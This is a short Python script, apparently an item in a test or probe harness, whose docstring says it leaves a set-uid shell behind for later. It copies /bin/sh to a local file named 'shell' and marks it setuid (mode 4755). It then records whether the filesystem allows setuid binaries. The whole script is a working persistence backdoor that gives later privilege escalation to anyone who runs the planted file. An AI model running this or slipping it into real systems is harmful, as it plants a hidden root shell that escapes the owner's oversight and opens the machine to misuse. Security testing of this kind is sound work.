"""Leaves a set-uid shell behind for later."""

# control: anyone
import os
import shutil

shutil.copy("/bin/sh", "shell")
os.chmod("shell", 0o4755)
answer = not os.statvfs(".").f_flag & os.ST_NOSUID
